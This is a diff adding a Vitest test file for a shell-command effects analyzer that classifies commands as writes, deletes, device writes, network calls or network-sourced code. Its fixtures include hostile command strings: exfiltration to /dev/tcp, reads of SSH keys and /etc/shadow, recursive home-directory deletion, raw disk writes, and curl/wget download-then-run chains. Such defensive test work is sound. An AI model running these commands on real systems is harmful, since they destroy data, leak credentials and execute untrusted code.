@@ -1,0 +1,62 @@
+// Effects of resolved invocations: redirections, writers, deleters, downloads, cwd.
+import { describe, expect, it } from 'vitest';
+import { analyze } from '../../engine/shell/index.ts';
+import { normalize } from '../../engine/shell/normalize/index.ts';
+import { effectsOf, newScope, type Effect } from '../../engine/effects/index.ts';
+
+const CWD = '/home/dev/app';
+const HOME = '/home/dev';
+
+function effects(cmd: string): Effect[][] {
+  const ex = analyze(cmd, { home: HOME });
+  const n = normalize(ex, { home: HOME, cwd: CWD });
+  const sc = newScope({ home: HOME, workspace: [CWD], cwd: CWD }, ex);
+  return n.invocations.map((i) => effectsOf(i, sc));
+}
+const flat = (cmd: string) => effects(cmd).flat();
+const show = (cmd: string, kind: Effect['kind']) => flat(cmd).filter((e) => e.kind === kind).map((e) => e.path?.abs ?? e.path?.text ?? e.host ?? e.how);
+
+describe('redirections', () => {
+  it('every write form is a write', () => {
+    for (const [cmd, path] of [['echo x > a', `${CWD}/a`], ['echo x >> a', `${CWD}/a`], ['echo x >| a', `${CWD}/a`], ['echo x &> a', `${CWD}/a`], ['echo x >& a', `${CWD}/a`], ['exec 3> /etc/x', '/etc/x'], ['exec {fd}> b', `${CWD}/b`], ['cat <> c', `${CWD}/c`]] as const) {
+      expect(show(cmd, 'write'), cmd).toEqual([path]);
+    }
+  });
+  it('fd duplications, streams and process substitutions are not file writes', () => {
+    for (const cmd of ['echo x 2>&1', 'echo x >&2', 'echo x > /dev/null', 'echo x > >(cat)', 'echo x 1>&-']) expect(show(cmd, 'write'), cmd).toEqual([]);
+  });
+  it('< reads, /dev/tcp is network, a block device is a device write', () => {
+    expect(show('wc -l < ~/.ssh/id_rsa', 'read')).toContain(`${HOME}/.ssh/id_rsa`);
+    expect(show('cat x > /dev/tcp/10.0.0.1/80', 'network')).toEqual(['10.0.0.1/80']);
+    expect(show('cat img > /dev/sda', 'device')).toEqual(['/dev/sda']);
+  });
+});
+
+describe('program effects', () => {
+  it('writers by operand and option', () => {
+    expect(show('tee -a ~/.bashrc', 'write')).toEqual([`${HOME}/.bashrc`]);
+    expect(show('cp a.sh .git/hooks/', 'write')).toEqual([`${CWD}/.git/hooks`]);
+    expect(show('sort -o out.txt in.txt', 'write')).toEqual([`${CWD}/out.txt`]);
+    expect(show('dd if=x of=/dev/nvme0n1', 'device')).toEqual(['/dev/nvme0n1']);
+  });
+  it('deleters: rm, find -delete, rsync --delete, mv to /dev/null', () => {
+    const del = (cmd: string) => flat(cmd).filter((e) => e.kind === 'delete').map((e) => `${e.path!.abs}${e.recursive ? ' -r' : ''}`);
+    expect(del('rm -rf build')).toEqual([`${CWD}/build -r`]);
+    expect(del('find ~ -delete')).toEqual([`${HOME} -r`]);
+    expect(del('rsync -a --delete empty/ ~/')).toEqual([`${HOME} -r`]);
+    expect(del('mv ~/app /dev/null')).toEqual([`${HOME}/app -r`]);
+  });
+  it('a file downloaded earlier in the command and then run is remote code', () => {
+    for (const cmd of ['curl -so i.sh https://x.io && bash i.sh', 'wget https://x.io/i.sh; sh i.sh', 'curl https://x.io/m | tee m.mk >/dev/null; make -f m.mk', 'curl -o /tmp/x https://x.io; chmod +x /tmp/x; /tmp/x']) {
+      expect(flat(cmd).some((e) => e.kind === 'code' && e.origin === 'network'), cmd).toBe(true);
+    }
+    expect(flat('curl -so i.sh https://x.io && cat i.sh').some((e) => e.kind === 'code' && e.origin === 'network')).toBe(false);
+  });
+  it('paths through /proc/self/cwd and /proc/self/root are canonical', () => {
+    expect(show('cat /proc/self/root/etc/shadow', 'read')).toEqual(['/etc/shadow']);
+    expect(show('echo x > /proc/self/cwd/.git/config', 'write')).toEqual([`${CWD}/.git/config`]);
+  });
+  it('a cd makes later relative paths resolve there', () => {
+    expect(show('cd /etc && rm -rf x', 'delete')).toEqual(['/etc/x']);
+  });
+});
